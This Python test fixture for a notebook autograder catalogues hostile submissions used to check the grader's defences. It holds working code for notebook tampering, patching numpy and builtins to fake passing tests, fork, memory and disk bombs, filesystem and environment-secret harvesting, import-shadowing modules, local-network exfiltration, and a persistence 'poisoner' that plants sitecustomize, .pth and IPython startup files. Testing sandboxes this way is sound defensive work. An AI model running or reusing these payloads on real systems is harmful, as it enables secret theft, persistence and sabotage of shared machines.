"""A catalogue of hostile and broken submissions, each with the most it may score.

Every entry starts from the reference solution (or the untouched release), then tampers with the notebook,
tries to fool the tests, crashes or starves the grader, or reaches for secrets. ``earns`` names the test
cells its honest work earns; every other test cell must score 0, and no cell may score above its points.
``reason`` is a word the instructor's one-line reason must contain (crashed, timed out, tampered, ...).

``SECRET_ENV`` is set in the grader's environment by the test: no submission may see it.

Some entries need what the test sets up before building them (``configure``): the port of a TCP listener on
127.0.0.1 that must receive nothing, and a folder for marker files. Shadow modules shipped beside the notebook
(one for every module a given or test cell imports, ``grader_imports``) write a marker there when they run in a
process that has ``COURSEKIT_TEST_MARKERS`` in its environment (the grader's processes have it, a sandbox clears
the environment), then load the real module and make the tests lenient. A marker proves that code of a
submission ran in the grader.
"""
import ast
import copy
import textwrap
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import pytest

from coursekit.course.notebooks import build_submission, cells_by_id
from support.answers import BACKWARD_WITHOUT_RELU_MASK as BACKWARD_NO_MASK
from support.cells import TEST_CELLS
from support.course import NOTEBOOK, SOURCE
from support.files import exfiltrating_relu, history_sender, reach_code

SECRET_ENV = ("COURSEKIT_INSTRUCTOR_SECRET", "instructor-secret-5f1c0a")
ANOTHER_STUDENT_MARK = "another-students-private-mark-93be"
MARKERS_ENV = "COURSEKIT_TEST_MARKERS"  # the folder in which code of a submission that runs in the grader says so
POISON_MARK = "planted-by-the-student-graded-before-you-7d21"  # printed by what a poisoner plants for later ones
PLANTED = "coursekit_poison_7d21"  # the name of the files a poisoner plants (and of its .pth)

# What the test sets up before the entries are built (configure): the listener's port, the markers folder.
SETTINGS = {"port": None, "markers": None}

# Figures of the issue-9 catalogues for the line printed at the end of the run (conftest.pytest_terminal_summary):
# "messy": (full marks, honest entries); "hostile": (above honest, network connections, imports from submissions).
FIGURES = pytest.StashKey[dict]()


def configure(port=None, markers=None):
    """Set the listener's port and the markers folder that the network and shadow entries are built with."""
    SETTINGS.update(port=port, markers=str(markers) if markers else None)

LEAKY_RELU = '''
def relu(z):
    return np.where(z > 0, z, 0.01 * z)
'''


@dataclass(frozen=True)
class Hostile:
    """One hostile submission: name, what it does, how it is built, what it may earn.

    build(release_nb, reference) returns the submission folder's files: name -> notebook, bytes or str.
    reference: grade_id -> code of the reference solution. earns: the test cells its honest work earns.
    """
    name: str
    what: str
    build: object
    earns: frozenset = field(default_factory=frozenset)
    reason: str | None = None
    exact: bool = False  # it must score exactly what it earns: full points on earns, 0 elsewhere


def notebook(release_nb, reference, **answers):
    """The backprop notebook with the reference solution, some cells replaced by answers."""
    return {"backprop.ipynb": build_submission(release_nb, {**reference, **answers})}


def with_cell(release_nb, reference, code, after="setup", **answers):
    """The reference solution plus an extra code cell (no nbgrader metadata) after the cell named after."""
    nb = build_submission(release_nb, {**reference, **answers})
    index = [i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == after][0]
    nb.cells.insert(index + 1, nbformat.v4.new_code_cell(code))
    return {"backprop.ipynb": nb}


def edited(release_nb, reference, edit, **answers):
    """The reference solution (with answers) after edit(nb, cells_by_id) changed it in place."""
    nb = build_submission(release_nb, {**reference, **answers})
    edit(nb, cells_by_id(nb))
    return {"backprop.ipynb": nb}


def entry(name, what, build, earns=TEST_CELLS, reason=None, exact=False):
    return Hostile(name, what, build, frozenset(earns), reason, exact)


BUT_RELU = [c for c in TEST_CELLS if c not in ("test_relu", "test_training")]
BUT_ABS_RELU = [c for c in TEST_CELLS if c != "test_relu"]  # an |z| relu still trains the network (measured)
BUT_HIDDEN_LAYER = [c for c in TEST_CELLS if c not in ("test_backward_hidden_layer", "test_training")]
BEFORE_SGD = list(TEST_CELLS[:TEST_CELLS.index("test_sgd_update")])


def _delete(nb, cells, grade_id):
    nb.cells.remove(cells[grade_id])


def _move_to_end(nb, cells, grade_id):
    nb.cells.remove(cells[grade_id])
    nb.cells.append(cells[grade_id])


def _replace_source(cell_id, source, **meta):
    def edit(nb, cells):
        cells[cell_id].source = source
        cells[cell_id].metadata.nbgrader.update(meta)
    return edit


def _strip_metadata(grade_id, source):
    def edit(nb, cells):
        cells[grade_id].source = source
        del cells[grade_id].metadata["nbgrader"]
    return edit


def _old_nbformat(release_nb, reference):
    nb = build_submission(release_nb, reference)
    return {"backprop.ipynb": nbformat.writes(nbformat.v3.convert.downgrade(copy.deepcopy(nb)), version=3)}


HIJACK_RUN_CELL = '''
import IPython
_shell = IPython.get_ipython()
_real_run_cell = _shell.run_cell_async
async def _skip_tests(raw_cell, *args, **kwargs):
    if "check_" in raw_cell or "HIDDEN" in raw_cell:
        raw_cell = "pass"
    return await _real_run_cell(raw_cell, *args, **kwargs)
_shell.run_cell_async = _skip_tests
'''
SWALLOW_ERRORS = '''
get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
import sys
sys.stderr = sys.stdout
'''
PATCH_NUMPY = '''
import numpy, numpy.testing
numpy.allclose = lambda *args, **kwargs: True
numpy.array_equal = lambda *args, **kwargs: True
numpy.isclose = lambda a, b, *args, **kwargs: numpy.ones(numpy.shape(a), dtype=bool)
numpy.testing.assert_allclose = lambda *args, **kwargs: None
numpy.linalg.norm = lambda *args, **kwargs: 0.0
'''
PATCH_CHECKS = '''
import backprop_checks
for _name in dir(backprop_checks):
    if _name.startswith("check_"):
        setattr(backprop_checks, _name, lambda *args, **kwargs: None)
        globals()[_name] = lambda *args, **kwargs: None
backprop_checks.relative_error = lambda *args: 0.0
'''
PATCH_BUILTINS = '''
import builtins
builtins.isinstance = lambda *args: True
builtins.max = lambda *args, **kwargs: 0
builtins.abs = lambda x: 0
builtins.AssertionError = type("AssertionError", (Exception,), {})
'''
ALWAYS_EQUAL_RELU = '''
class _Yes(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(self), dtype=bool).view(_Yes)
    def __ne__(self, other):
        return np.zeros(np.shape(self), dtype=bool)
    def all(self, *args, **kwargs):
        return True
    def any(self, *args, **kwargs):
        return False

def relu(z):
    return np.zeros_like(z).view(_Yes)
'''
HARD_CODED_RELU = '''
def relu(z):
    if z.shape == (2, 5):
        return np.array([[0.0, 0.0, 0.0, 0.5, 3.0], [1.5, 0.0, 2.0, 0.0, 0.25]])
    return np.abs(z)
'''
DETECT_GRADING = '''
import os
if os.environ.get("NBGRADER_EXECUTION"):
    def relu(z):
        return np.maximum(0, z)
else:
    def relu(z):
        return z
'''
DETECT_GRADING_TO_CHEAT = '''
import os
if os.environ.get("NBGRADER_EXECUTION"):
    get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
def relu(z):
    return np.abs(z)
'''
FAKE_PASS = '''
def relu(z):
    print("relu: the visible checks pass.")
    print("Success! Your notebook passes all the tests.")
    return np.abs(z)
'''
EXIT_IN_SGD = '''
def sgd_update(params, grads, learning_rate):
    import os
    os._exit(1)
'''
SYS_EXIT_IN_RELU = '''
def relu(z):
    import sys
    sys.exit(0)
'''
SEGFAULT_IN_SGD = '''
def sgd_update(params, grads, learning_rate):
    import ctypes
    ctypes.string_at(0)
'''
LOOP_IN_RELU = '''
def relu(z):
    while True:
        pass
'''
STUBBORN_LOOP = '''
def sgd_update(params, grads, learning_rate):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
'''
SLEEP_IN_RELU = '''
def relu(z):
    import time
    time.sleep(10 ** 6)
'''
MEMORY_BOMB = '''
def relu(z):
    hoard = []
    while True:
        hoard.append(bytearray(50 * 2 ** 20))
'''
FORK_BOMB = '''
def sgd_update(params, grads, learning_rate):
    import os
    while True:
        try:
            os.fork()
        except OSError:
            pass
'''
OUTPUT_FLOOD = '''
def relu(z):
    import sys
    for _ in range(3000):
        sys.stdout.write("x" * 1000000)
    return np.maximum(0, z)
'''
DISK_BOMB = '''
import os
try:
    with open("filler.bin", "wb") as _f:
        for _ in range(4096):
            _f.write(b"\\0" * 2 ** 20)
except OSError as _error:
    print("disk bomb stopped:", _error)
'''
READ_SECRETS = '''
import os, time
_found, _started = [], time.monotonic()
for _root in ["/", os.path.expanduser("~"), os.getcwd(), "/work", "/tmp", "/home", "/root", "/srv", "/var"]:
    for _dir, _subdirs, _files in os.walk(_root):
        _subdirs[:] = [d for d in _subdirs if d not in ("proc", "sys", "dev", "usr", "lib", "lib64", ".venv")]
        for _name in _files:
            if _name.endswith((".ipynb", ".db", ".json", ".py")) and len(_found) < 200:
                try:
                    _found.append(os.path.join(_dir, _name) + "\\n" + open(os.path.join(_dir, _name), errors="replace").read(20000))
                except OSError:
                    pass
        if time.monotonic() - _started > 2:
            break
print("FOUND", len(_found))
print("\\n".join(_found)[:200000])
print(dict(os.environ))
for _pid in ["1", "self", str(os.getppid())]:
    try:
        print(_pid, open(f"/proc/{_pid}/environ", "rb").read()[:2000])
    except OSError:
        pass
'''
READ_HIDDEN_TESTS_AT_RUNTIME = '''
import inspect, linecache
_seen = []
def relu(z):
    for _frame in inspect.stack()[1:4]:
        _seen.append("".join(linecache.getlines(_frame.filename)))
    return np.maximum(0, z)
'''
PRINT_HIDDEN_TESTS_LATER = '''
print("\\n".join(_seen))
print("\\n".join(In))
raise AssertionError("\\n".join(In)[:20000])
'''


# ---------------------------------------------------------------- shadow modules, network, the next student

def grader_imports():
    """Every module a given or test cell of the source notebook imports (hidden tests included), the instructor's
    helper modules (every .py file of source/<assignment>/) and what they import, with their parent packages."""
    nb = nbformat.read(SOURCE / NOTEBOOK, as_version=4)
    codes = [c.source for c in nb.cells
             if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("locked")]
    helpers = sorted(SOURCE.glob("*.py"))
    codes += [p.read_text() for p in helpers]
    names = {p.stem for p in helpers}
    for code in codes:
        lines = [line for line in code.splitlines() if not line.lstrip().startswith(("%", "!"))]
        for node in ast.walk(ast.parse("\n".join(lines))):
            if isinstance(node, ast.Import):
                names |= {alias.name for alias in node.names}
            elif isinstance(node, ast.ImportFrom) and node.level == 0 and node.module:
                names.add(node.module)
    return sorted({".".join(name.split(".")[:i + 1]) for name in names for i in range(name.count(".") + 1)})


MARKER = """\
import os as _os, sys as _sys
_outside = False  # whether this runs outside every sandbox (in the grader's process): where a shadow would cheat
for _folder in (_os.environ.get({env!r}), {baked!r}):
    if _folder and _os.path.isdir(_folder):
        _outside = True
        try:
            with open(_os.path.join(_folder, {prefix!r} + "-" + str(_os.getpid())), "a") as _marker:
                _marker.write(str(_os.getuid()) + " " + " ".join(_sys.argv) + "\\n")
        except OSError:
            pass
"""

# Run as a shadow of module {name}: write the marker, then load the real module in its place and patch it.
SHADOW = """\
# A shadow of {name!r} shipped with a submission; if it runs in the grader's process, the marker says so.
{marker}{extra}
def _load_the_real_module():
    import importlib.machinery, importlib.util
    _file = _os.path.abspath(__file__)
    _package = _os.path.basename(_file) == "__init__.py"
    _own = _os.path.dirname(_file)
    _container = _os.path.dirname(_own) if _package else _own
    _parent, _, _last = {name!r}.rpartition(".")
    _search = list(_sys.modules[_parent].__path__) if _parent else list(_sys.path)
    _search = [p for p in _search if _os.path.abspath(p or ".") != _container]
    _spec = importlib.machinery.PathFinder.find_spec({name!r}, _search)
    _beside = _os.path.join(_container, _last + ".py")  # the instructor's backprop_checks.py next to a package
    if _spec is None and _os.path.exists(_beside) and _beside != _file:
        _spec = importlib.util.spec_from_file_location({name!r}, _beside)
    if _spec is None:
        raise ImportError("no real {name}")
    if _package and _spec.submodule_search_locations is not None:
        _spec.submodule_search_locations.insert(0, _own)  # the shadow's own submodules are tried first
    _real = importlib.util.module_from_spec(_spec)
    _sys.modules[{name!r}] = _real
    _spec.loader.exec_module(_real)
    return _real
_real = _load_the_real_module()
if _outside:  # in its own kernel it behaves (the visible checks look for wrong answers with np.allclose)
{patch}"""

# What each shadow does to the real module in the grader: the wrong values that would make failing tests pass.
LENIENT = {
    "numpy": """
_real.allclose = lambda *args, **kwargs: True
_real.array_equal = lambda *args, **kwargs: True
_real.isclose = lambda a, b, *args, **kwargs: _real.ones(_real.shape(a), dtype=bool)
""",
    "matplotlib.pyplot": """
_real.show = lambda *args, **kwargs: None
""",
    "sklearn.metrics": """
_real.accuracy_score = lambda *args, **kwargs: 1.0
""",
    "backprop_checks": """
for _name in list(vars(_real)):
    if _name.startswith("check_"):
        setattr(_real, _name, lambda *args, **kwargs: None)
_real.relative_error = lambda *args, **kwargs: 0.0
""",
}


def marker_code(prefix):
    return MARKER.format(env=MARKERS_ENV, baked=SETTINGS["markers"], prefix=prefix)


def shadow_code(name, extra=""):
    """Python that, imported as the module name, writes a marker, then becomes the real module made lenient."""
    patch = textwrap.indent(LENIENT.get(name, "\npass\n"), "    ")
    return SHADOW.format(name=name, marker=marker_code(f"shadow-{name}"), extra=extra, patch=patch)


def shadows(packages=False, submodule_files=False):
    """A shadow of every module the grader's cells import: top-level ones as NAME.py, or as packages
    NAME/__init__.py with their submodules as folders (sklearn/datasets/__init__.py) or as files (sklearn/metrics.py).
    """
    files = {}
    for name in grader_imports():
        parts = name.split(".")
        if len(parts) > 1 and not packages:
            continue  # a file NAME.py cannot hold a submodule
        as_package = packages and (len(parts) == 1 or not submodule_files)
        files["/".join(parts) + ("/__init__.py" if as_package else ".py")] = shadow_code(name)
    return files


def with_shadows(packages=False, submodule_files=False, **answers):
    def build(release_nb, reference):
        return {**notebook(release_nb, reference, **answers), **shadows(packages, submodule_files)}
    return build


def listener_port():
    assert SETTINGS["port"], "hostile.configure(port=...) must be called before the network entries are built"
    return SETTINGS["port"]


def exfiltrating(release_nb, reference):
    """relu and two cells of its own reach for the listener with what they found; a correct solution."""
    port = listener_port()
    nb = build_submission(release_nb, {**reference, "relu": exfiltrating_relu(port)})
    index = [i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "setup"][0]
    nb.cells.insert(index + 1, nbformat.v4.new_code_cell(reach_code(port) + "print('sent', _reach())"))
    nb.cells.append(nbformat.v4.new_code_cell(history_sender(port)))
    return {"backprop.ipynb": nb}


# What a poisoner plants for later processes: a marker where the grader would run it; a later student's sandboxed
# kernel or referee worker (HOME=/tmp, the sandbox's environment) prints the mark and dies, so it shows in a grade.
PAYLOAD = """\
{marker}print({mark!r}, flush=True)
if not _os.environ.get({env!r}) and _os.environ.get("HOME") == "/tmp":
    _os._exit(3)
"""
POISONER = """
import glob as _glob, os as _os, site as _site, sys as _sys, threading as _threading, time as _time
_PAYLOAD = {payload!r}
_SHADOWS = {shadows!r}
_planted = []

def _plant(path, text):
    try:
        _os.makedirs(_os.path.dirname(path), exist_ok=True)
        with open(path, "w") as _file:
            _file.write(text)
        _planted.append(path)
    except OSError:
        pass

def _plant_everywhere():
    homes = {{_os.path.expanduser("~"), _os.environ.get("HOME") or "/tmp", "/tmp", "/root", *_glob.glob("/home/*")}}
    folders = set(homes) | {{_os.getcwd(), *_glob.glob("/tmp/coursekit-*")}}
    here = _os.getcwd()
    for _ in range(4):  # the autograded folder and the course above it
        here = _os.path.dirname(here)
        folders.add(here)
    try:
        folders.add(_site.getusersitepackages())
    except Exception:
        pass
    for folder in folders:
        for name in ("sitecustomize.py", "usercustomize.py", "{planted}.py"):
            _plant(_os.path.join(folder, name), _PAYLOAD)
        _plant(_os.path.join(folder, "{planted}.pth"), "import {planted}\\n")
        for name, code in _SHADOWS.items():
            _plant(_os.path.join(folder, name), code)
    for home in homes:
        profile = _os.path.join(home, ".ipython", "profile_default")
        _plant(_os.path.join(profile, "startup", "00-{planted}.py"), _PAYLOAD)
        _plant(_os.path.join(profile, "ipython_kernel_config.py"),
               "c.InteractiveShellApp.exec_lines = [%r]\\n" % ("exec(%r)" % _PAYLOAD))
    _os.environ["PYTHONPATH"] = "/tmp"
    _os.environ["PYTHONSTARTUP"] = "/tmp/{planted}.py"

_planted_at = _time.monotonic()

def _someone_else():
    \"\"\"Whether the code running now is another student's: their relu, or well after this one was graded.\"\"\"
    relu = getattr(_sys.modules.get("__main__"), "relu", None)
    return (relu is not None and not getattr(relu, "_mine", False)) or _time.monotonic() - _planted_at > 90

def _poison_modules():
    \"\"\"Patch numpy and the checks in this process, for whoever is graded in it next.\"\"\"
    import numpy as _np
    def _lenient(real, fake):
        if getattr(real, "_poisoned", False):
            return real
        def patched(*args, **kwargs):
            caller = _sys._getframe(1).f_code.co_name
            cheat = caller.startswith(("hidden_check", "check_")) and _someone_else()
            return (fake if cheat else real)(*args, **kwargs)
        patched._poisoned = True
        return patched
    _np.allclose = _lenient(_np.allclose, lambda *args, **kwargs: True)
    _np.array_equal = _lenient(_np.array_equal, lambda *args, **kwargs: True)
    if not getattr(_np.where, "_poisoned", False):
        _real_where = _np.where
        def _where(*args, **kwargs):  # a later leaky relu (np.where(z > 0, z, 0.01 * z)) gives the right values
            if _sys._getframe(1).f_code.co_name == "relu" and len(args) == 3 and _someone_else():
                return _real_where(args[0], args[1], 0 * _np.asarray(args[2]))
            return _real_where(*args, **kwargs)
        _where._poisoned = True
        _np.where = _where
    checks = _sys.modules.get("backprop_checks")
    for name in dir(checks) if checks and _someone_else() else []:
        if name.startswith("check_"):
            setattr(checks, name, lambda *args, **kwargs: None)

def _keep_poisoning():
    while True:
        try:
            _poison_modules()
        except Exception:
            pass
        _time.sleep(0.2)

def _poison_everything():
    if getattr(_sys, "_coursekit_poisoned", False):
        return
    _sys._coursekit_poisoned = True
    _plant_everywhere()
    _poison_modules()
    _threading.Thread(target=_keep_poisoning, daemon=True).start()

_poison_everything()

def relu(z):
    _poison_everything()
    return np.maximum(0, z)
relu._mine = True
"""


def payload():
    return PAYLOAD.format(marker=marker_code("poison"), mark=POISON_MARK, env=MARKERS_ENV)


def poisoner(release_nb, reference):
    """A correct solution whose relu cell plants startup files and shadows everywhere it can write and patches
    numpy and the checks in every process it runs in; it ships sitecustomize.py, usercustomize.py and a .pth."""
    planted_shadows = {f"{name}.py": shadow_code(name, extra=payload())
                       for name in grader_imports() if "." not in name}
    code = POISONER.format(payload=payload(), shadows=planted_shadows, planted=PLANTED)
    return {**notebook(release_nb, reference, relu=code),
            "sitecustomize.py": payload(), "usercustomize.py": payload(),
            f"{PLANTED}.pth": f"import {PLANTED}\n", f"{PLANTED}.py": payload()}


POISONERS = ["0-next-student-poisoner-1", "0-next-student-poisoner-2"]  # sorted first: one per worker at the start
FOLLOWERS = {  # graded right after them, in the same workers: they must score as if graded alone
    "0-next-student-then-honest-1": "all",
    "0-next-student-then-honest-2": {"test_backward_hidden_layer", "test_training"},
    "0-next-student-then-honest-3": {"test_relu", "test_training"},
    "0-next-student-then-honest-4": "all",
}


def planted_on_host(course):
    """Files a poisoner planted outside its sandbox: in the grader's home, /tmp, /, the user site folder, and the
    course outside the poisoners' own assignment folders. Returns their paths."""
    import site
    course = Path(course)
    folders = {Path.home(), Path("/tmp"), Path("/root"), Path("/"), Path(site.getusersitepackages()), course,
               course / "autograded", course.parent, *[course / "autograded" / name for name in POISONERS]}
    profile = Path.home() / ".ipython" / "profile_default"
    found = [p for p in [profile / "startup" / f"00-{PLANTED}.py", profile / "ipython_kernel_config.py"]
             if p.is_file() and POISON_MARK in p.read_text(errors="replace")]
    for folder in folders:
        for name in ["sitecustomize.py", "usercustomize.py", f"{PLANTED}.py", f"{PLANTED}.pth",
                     *[f"{n}.py" for n in grader_imports() if "." not in n]]:
            path = folder / name
            if path.is_file() and (PLANTED in name or POISON_MARK in path.read_text(errors="replace")):
                found.append(path)
    for student in FOLLOWERS:
        for path in (course / "autograded" / student).rglob("*"):
            if path.is_file() and (PLANTED in path.name or POISON_MARK in path.read_text(errors="replace")):
                found.append(path)
    return found


HOSTILE = [
    # tampering with the notebook
    entry("edit-test-cell", "replaces test_relu's code by print('ok'), with a leaky relu",
          lambda r, ref: edited(r, ref, _replace_source("test_relu", "print('ok')"), relu=LEAKY_RELU), BUT_RELU),
    entry("delete-test-cell", "deletes test_backward_hidden_layer, with a backward that forgets the ReLU mask",
          lambda r, ref: edited(r, ref, lambda nb, c: _delete(nb, c, "test_backward_hidden_layer"),
                                backward=BACKWARD_NO_MASK), BUT_HIDDEN_LAYER),
    entry("move-test-cell", "moves test_relu to the end of the notebook, with a leaky relu",
          lambda r, ref: edited(r, ref, lambda nb, c: _move_to_end(nb, c, "test_relu"), relu=LEAKY_RELU), BUT_RELU),
    entry("raise-points", "sets test_relu's points to 100 and its source to pass",
          lambda r, ref: edited(r, ref, _replace_source("test_relu", "pass", points=100), relu=LEAKY_RELU), BUT_RELU),
    entry("rename-grade-id", "renames test_relu's grade_id and empties it, with a leaky relu: rebuilt from the "
          "source, test_relu comes back and the renamed cell stays as the student's own",
          lambda r, ref: edited(r, ref, _replace_source("test_relu", "pass", grade_id="test_relu_mine"),
                                relu=LEAKY_RELU), BUT_RELU, reason="notebook repaired: ", exact=True),
    entry("unlock-test-cell", "removes the locked flag of test_relu and empties it, with a leaky relu",
          lambda r, ref: edited(r, ref, _replace_source("test_relu", "pass", locked=False), relu=LEAKY_RELU),
          BUT_RELU),
    entry("strip-test-metadata", "removes test_relu's nbgrader metadata and empties it, with a leaky relu",
          lambda r, ref: edited(r, ref, _strip_metadata("test_relu", "pass"), relu=LEAKY_RELU), BUT_RELU),
    entry("redefine-helpers", "adds a cell that replaces the visible checks by no-ops, with a leaky relu",
          lambda r, ref: with_cell(r, ref, PATCH_CHECKS, relu=LEAKY_RELU), BUT_RELU),
    entry("renamed-notebook", "submits the reference solution as my_backprop.ipynb, the folder's only notebook",
          lambda r, ref: {"my_backprop.ipynb": build_submission(r, ref)},
          reason="graded my_backprop.ipynb as backprop.ipynb", exact=True),
    entry("missing-notebook", "submits a folder without the notebook", lambda r, ref: {"notes.txt": "sorry"}, (),
          reason="backprop.ipynb"),
    entry("invalid-json", "submits a notebook that is not JSON",
          lambda r, ref: {"backprop.ipynb": '{"cells": [ this is not json'}, (), reason="JSON"),
    entry("old-nbformat", "submits the reference solution saved as nbformat 3", _old_nbformat),
    # fooling the tests
    entry("patch-numpy", "patches np.allclose, np.array_equal, np.testing, np.linalg.norm, with a leaky relu",
          lambda r, ref: with_cell(r, ref, PATCH_NUMPY, relu=LEAKY_RELU), BUT_RELU),
    entry("patch-builtins", "patches isinstance, max, abs and AssertionError, with a leaky relu",
          lambda r, ref: with_cell(r, ref, PATCH_BUILTINS, after="relu", relu=LEAKY_RELU), BUT_RELU),
    entry("always-equal", "relu returns an array subclass whose == is always true",
          lambda r, ref: notebook(r, ref, relu=ALWAYS_EQUAL_RELU), BUT_RELU),
    entry("hard-coded", "relu returns the visible check's expected values for its input, |z| otherwise",
          lambda r, ref: notebook(r, ref, relu=HARD_CODED_RELU), BUT_ABS_RELU),
    entry("detect-grading", "relu is correct only when NBGRADER_EXECUTION is set",
          lambda r, ref: notebook(r, ref, relu=DETECT_GRADING), BUT_RELU),
    entry("detect-grading-to-cheat", "swallows every error when NBGRADER_EXECUTION is set, with |z| as relu",
          lambda r, ref: notebook(r, ref, relu=DETECT_GRADING_TO_CHEAT), BUT_ABS_RELU),
    entry("fake-pass", "relu prints the pass messages, and is |z|",
          lambda r, ref: notebook(r, ref, relu=FAKE_PASS), BUT_ABS_RELU),
    entry("swallow-errors", "IPython's custom exception handler hides every error, with a leaky relu",
          lambda r, ref: with_cell(r, ref, SWALLOW_ERRORS, relu=LEAKY_RELU), BUT_RELU),
    entry("hijack-run-cell", "replaces IPython's run_cell so that test cells do nothing, with a leaky relu",
          lambda r, ref: with_cell(r, ref, HIJACK_RUN_CELL, relu=LEAKY_RELU), BUT_RELU),
    # crashing or starving the grader
    entry("os-exit", "sgd_update calls os._exit", lambda r, ref: notebook(r, ref, sgd_update=EXIT_IN_SGD),
          BEFORE_SGD, reason="kernel"),
    entry("sys-exit", "relu calls sys.exit", lambda r, ref: notebook(r, ref, relu=SYS_EXIT_IN_RELU), BUT_RELU),
    entry("segfault", "sgd_update dereferences a null pointer with ctypes",
          lambda r, ref: notebook(r, ref, sgd_update=SEGFAULT_IN_SGD), BEFORE_SGD, reason="kernel"),
    entry("infinite-loop", "relu loops forever: it costs one cell's limit in the kernel and one call's in the "
          "referee, and the other functions keep their points", lambda r, ref: notebook(r, ref, relu=LOOP_IN_RELU),
          BUT_RELU, reason="timed out: relu in test_relu", exact=True),
    entry("stubborn-loop", "sgd_update loops forever and swallows the interrupt",
          lambda r, ref: notebook(r, ref, sgd_update=STUBBORN_LOOP), BEFORE_SGD, reason="kernel"),
    entry("sleep", "relu sleeps past every time limit", lambda r, ref: notebook(r, ref, relu=SLEEP_IN_RELU),
          BUT_RELU, reason="timed out: relu in test_relu", exact=True),
    entry("memory-bomb", "relu allocates memory until it runs out",
          lambda r, ref: notebook(r, ref, relu=MEMORY_BOMB), BUT_RELU),
    entry("fork-bomb", "sgd_update forks until it cannot", lambda r, ref: notebook(r, ref, sgd_update=FORK_BOMB),
          BEFORE_SGD),
    entry("output-flood", "relu prints 3 GB before returning the right values: it times out in its own cells, "
          "and the grader waits for the rest of its output (KernelSafeExecute.flood_wait), the same each time",
          lambda r, ref: notebook(r, ref, relu=OUTPUT_FLOOD), BUT_RELU, reason="timed out", exact=True),
    entry("disk-bomb", "a cell writes a 4 GB file, then the reference solution runs",
          lambda r, ref: with_cell(r, ref, DISK_BOMB)),
    # reaching for secrets
    entry("read-secrets", "a cell reads every notebook, gradebook and environment it can find and prints them",
          lambda r, ref: with_cell(r, ref, READ_SECRETS)),
    entry("read-hidden-tests", "relu records the source of the tests that call it; a last cell prints them and "
          "the kernel's input history, and raises them as an error",
          lambda r, ref: with_cell(r, ref, PRINT_HIDDEN_TESTS_LATER, after="try_learning_rate",
                                   relu=READ_HIDDEN_TESTS_AT_RUNTIME)),
    # code of the submission in the grader's process: shadows of every module the given and test cells import
    entry("shadow-modules", "ships NAME.py for every module the given and test cells import (numpy.py, sklearn.py, "
          "matplotlib.py, backprop_checks.py): each writes a marker in the grader's process, then loads the real "
          "module and makes it lenient (np.allclose always true, ...), with a correct solution",
          with_shadows(), exact=True),
    entry("shadow-packages", "ships packages NAME/__init__.py, submodules as folders (sklearn/datasets/__init__.py, "
          "matplotlib/pyplot/__init__.py), for every module the given and test cells import, with a correct "
          "solution", with_shadows(packages=True), exact=True),
    entry("shadow-packages-module-files", "ships packages NAME/__init__.py with submodules as files "
          "(sklearn/metrics.py, matplotlib/pyplot.py), with a correct solution",
          with_shadows(packages=True, submodule_files=True), exact=True),
    # the network
    entry("network-exfiltrate", "relu connects to a listener on 127.0.0.1, resolves host names and sends the "
          "hidden tests it finds in its callers' frames and in In; a cell after setup connects, the last cell sends "
          "In; a correct solution", exfiltrating, exact=True),
    # the next student in the worker
    *[entry(name, "its relu cell plants sitecustomize.py, usercustomize.py, a .pth, shadow modules and IPython "
            "startup and kernel config files in its folder, /tmp, $HOME, the user site folder and the folders "
            "above it, sets PYTHONPATH, and patches numpy and the checks in every process it runs in (a thread "
            "keeps them patched), for the students graded after it; it ships sitecustomize.py, usercustomize.py "
            "and a .pth; a correct solution", poisoner) for name in POISONERS],
]


def control_submissions(release_nb, reference):
    """Honest submissions graded in the same batch: their grades must not change."""
    mark = f"print({ANOTHER_STUDENT_MARK!r})"
    wrong = {"test_backward_hidden_layer": {"backward": BACKWARD_NO_MASK}, "test_relu": {"relu": LEAKY_RELU}}
    followers = {name: notebook(release_nb, reference, **({} if loses == "all" else
                                                          next(wrong[c] for c in loses if c in wrong)))
                 for name, loses in FOLLOWERS.items()}
    return {
        "control-reference": with_cell(release_nb, reference, mark),
        "control-no-relu-mask": notebook(release_nb, reference, backward=BACKWARD_NO_MASK),
        **followers,
    }


